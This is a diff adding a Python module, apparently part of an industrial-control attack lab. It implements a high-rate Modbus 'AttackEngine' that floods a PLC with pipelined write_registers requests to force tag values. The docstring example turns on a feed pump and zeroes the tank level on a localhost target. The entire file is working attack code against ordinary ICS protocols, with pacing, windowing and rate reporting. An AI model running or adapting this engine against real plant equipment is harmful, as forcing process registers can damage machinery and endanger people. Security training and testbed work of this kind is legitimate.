@@ -0,0 +1,280 @@
+#!/usr/bin/env python
+# High-rate register writer for the attack scripts.
+#
+# The attacks used to loop over write_register (FC 6), one blocking round
+# trip per tag.  AttackEngine encodes the values through the plant's tag
+# database, merges adjacent registers into write_registers (FC 16) runs and
+# keeps up to window of them in flight on one Twisted connection, paced to
+# a target rate in requests per second (as fast as the window allows
+# without one):
+#
+#   engine = AttackEngine('127.0.0.1', 5020, tags,
+#                         {PLC_FEED_PUMP: 1, PLC_TANK_LEVEL: 0}, rate=2000)
+#   engine.run()
+#
+# Every report_interval seconds, and once more at the end, it logs the
+# achieved writes per second and the request latency (mean, median, 99th
+# percentile and max).
+
+from __future__ import division
+
+import logging
+import random
+import time
+
+from twisted.internet import protocol, reactor, task
+from pymodbus.client.async import ModbusClientProtocol
+
+log = logging.getLogger(__name__)
+
+# Requests in flight at once
+WINDOW = 16
+
+# Seconds between progress lines
+REPORT_INTERVAL = 5
+
+# Latencies kept for the percentiles
+SAMPLES = 10000
+
+# Shortest pacing interval in seconds
+MIN_TICK = 0.001
+
+
+def write_runs(regs):
+    """[(address, [registers])] for {address: register}, one per run of
+    adjacent addresses."""
+    addrs = sorted(regs)
+    runs = []
+    start = 0
+    for i in range(1, len(addrs) + 1):
+        if i == len(addrs) or addrs[i] != addrs[i - 1] + 1:
+            run = addrs[start:i]
+            runs.append((run[0], [regs[a] for a in run]))
+            start = i
+    return runs
+
+
+class LatencyStats(object):
+    """Count, mean and max of latencies, with percentiles from a uniform
+    sample of at most SAMPLES of them."""
+
+    def __init__(self, samples=SAMPLES):
+        self.samples = samples
+        self.reset()
+
+    def reset(self):
+        self.count = 0
+        self.total = 0.0
+        self.max = 0.0
+        self.sample = []
+
+    def add(self, latency):
+        self.count += 1
+        self.total += latency
+        self.max = max(self.max, latency)
+        if len(self.sample) < self.samples:
+            self.sample.append(latency)
+        else:
+            # Reservoir sampling keeps every latency equally likely
+            i = random.randrange(self.count)
+            if i < self.samples:
+                self.sample[i] = latency
+
+    def mean(self):
+        return self.total / self.count if self.count else 0.0
+
+    def percentile(self, p):
+        if not self.sample:
+            return 0.0
+        ordered = sorted(self.sample)
+        return ordered[min(len(ordered) - 1, int(p / 100.0 * len(ordered)))]
+
+    def summary(self):
+        return ("latency mean %.2f ms p50 %.2f ms p99 %.2f ms max %.2f ms"
+                % (self.mean() * 1000, self.percentile(50) * 1000,
+                   self.percentile(99) * 1000, self.max * 1000))
+
+
+class _AttackProtocol(ModbusClientProtocol):
+
+    engine = None
+
+    def connectionLost(self, reason):
+        ModbusClientProtocol.connectionLost(self, reason)
+        if self.engine is not None:
+            self.engine.connection_lost(reason)
+
+
+class AttackEngine(object):
+    """Writes values to a plant over and over, as fast as asked.
+
+    values maps tag names or addresses to engineering values.  rate is in
+    write requests per second, None for as fast as window allows; duration
+    stops the attack after that many seconds.
+    """
+
+    def __init__(self, host, port, tags, values, rate=None, window=WINDOW,
+                 duration=None, report_interval=REPORT_INTERVAL):
+        self.host = host
+        self.port = port
+        self.runs = write_runs(tags.encode(values))
+        self.rate = rate
+        self.window = max(1, window)
+        self.duration = duration
+        self.report_interval = report_interval
+
+        self.client = None
+        self.stopping = False
+        self.next_run = 0
+        self.in_flight = 0
+        self.sent = 0
+        self.done = 0
+        self.errors = 0
+        self.registers = 0
+        self.started = None
+        self.paced_from = None
+        self.paced_sent = 0
+        self.latency = LatencyStats()
+        self.interval = LatencyStats()
+        self.last_report = None
+        self.last_done = 0
+        self._timers = []
+
+    def run(self):
+        """Connect, attack until Ctrl-C or duration, then log a summary."""
+        self.start()
+        reactor.run()
+        log.info(self.summary())
+
+    def start(self):
+        creator = protocol.ClientCreator(reactor, _AttackProtocol)
+        d = creator.connectTCP(self.host, self.port, timeout=5)
+        d.addCallbacks(self._connected, self._failed)
+
+    def stop(self):
+        self.stopping = True
+        for timer in self._timers:
+            if timer.running:
+                timer.stop()
+        self._timers = []
+        if self.client is not None:
+            self.client.engine = None
+            self.client.transport.loseConnection()
+        if reactor.running:
+            reactor.stop()
+
+    def _connected(self, client):
+        log.info("Attacking %s:%s with %d write_registers requests per cycle"
+                 % (self.host, self.port, len(self.runs)))
+        self.client = client
+        client.engine = self
+        self.started = self.paced_from = self.last_report = time.time()
+        if self.rate:
+            tick = task.LoopingCall(self._pump)
+            tick.start(max(MIN_TICK, min(0.01, 1.0 / self.rate)))
+            self._timers.append(tick)
+        else:
+            self._pump()
+        if self.report_interval:
+            report = task.LoopingCall(self._report)
+            report.start(self.report_interval, now=False)
+            self._timers.append(report)
+        if self.duration:
+            reactor.callLater(self.duration, self.stop)
+
+    def _failed(self, failure):
+        log.error("Unable to connect to %s:%s: %s"
+                  % (self.host, self.port, failure.getErrorMessage()))
+        self.stop()
+
+    def connection_lost(self, reason):
+        log.error("Connection lost: %s" % reason.getErrorMessage())
+        self.client = None
+        self.stop()
+
+    def _allowed(self, now):
+        # Requests the target rate allows by now.  Credit does not pile up
+        # beyond one window, so a stall is not followed by a burst.
+        if not self.rate:
+            return self.sent + self.window
+        allowed = self.paced_sent + int((now - self.paced_from) * self.rate)
+        if allowed > self.sent + self.window:
+            self.paced_from = now
+            self.paced_sent = self.sent
+            allowed = self.sent + self.window
+        return allowed
+
+    def _pump(self):
+        if self.client is None or self.stopping:
+            return
+        now = time.time()
+        allowed = self._allowed(now)
+        while self.in_flight < self.window and self.sent < allowed:
+            address, registers = self.runs[self.next_run]
+            self.next_run = (self.next_run + 1) % len(self.runs)
+            self.sent += 1
+            self.in_flight += 1
+            d = self.client.write_registers(address, registers)
+            d.addCallbacks(self._response, self._error,
+                           callbackArgs=(now, len(registers)))
+
+    def _response(self, response, sent, count):
+        self.in_flight -= 1
+        if response is None or response.function_code > 0x80:
+            self.errors += 1
+        else:
+            self.done += 1
+            self.registers += count
+            latency = time.time() - sent
+            self.latency.add(latency)
+            self.interval.add(latency)
+        self._pump()
+
+    def _error(self, failure):
+        self.in_flight -= 1
+        # Requests cut off by stop() are not the target's fault
+        if not self.stopping:
+            self.errors += 1
+
+    def _report(self):
+        now = time.time()
+        elapsed = now - self.last_report
+        rate = (self.done - self.last_done) / elapsed if elapsed > 0 else 0.0
+        log.info("%.0f writes/s (target %s), %d in flight, %d errors, %s"
+                 % (rate, "%d" % self.rate if self.rate else 'max', self.in_flight,
+                    self.errors, self.interval.summary()))
+        self.last_report = now
+        self.last_done = self.done
+        self.interval.reset()
+
+    def stats(self):
+        elapsed = (time.time() - self.started) if self.started else 0.0
+        return {
+            'elapsed': elapsed,
+            'requests': self.done,
+            'errors': self.errors,
+            'registers': self.registers,
+            'rate': self.done / elapsed if elapsed > 0 else 0.0,
+            'latency_mean': self.latency.mean(),
+            'latency_p50': self.latency.percentile(50),
+            'latency_p99': self.latency.percentile(99),
+            'latency_max': self.latency.max,
+        }
+
+    def summary(self):
+        s = self.stats()
+        return ("attack: %d writes (%d registers) in %.1f s, %.0f writes/s, %d errors, %s"
+                % (s['requests'], s['registers'], s['elapsed'], s['rate'], s['errors'],
+                   self.latency.summary()))
+
+
+def add_arguments(parser, port):
+    """The rate, window, duration and port options every attack takes."""
+    parser.add_argument("-p", action = "store", dest="port", type=int, default=port,
+                        help = "Target Modbus port (default %d)" % port)
+    parser.add_argument("-r", action = "store", dest="rate", type=float,
+                        help = "Target write requests per second (default as fast as possible)")
+    parser.add_argument("-w", action = "store", dest="window", type=int, default=WINDOW,
+                        help = "Requests in flight at once (default %d)" % WINDOW)
+    parser.add_argument("-d", action = "store", dest="duration", type=float,
+                        help = "Stop after this many seconds (default run until Ctrl-C)")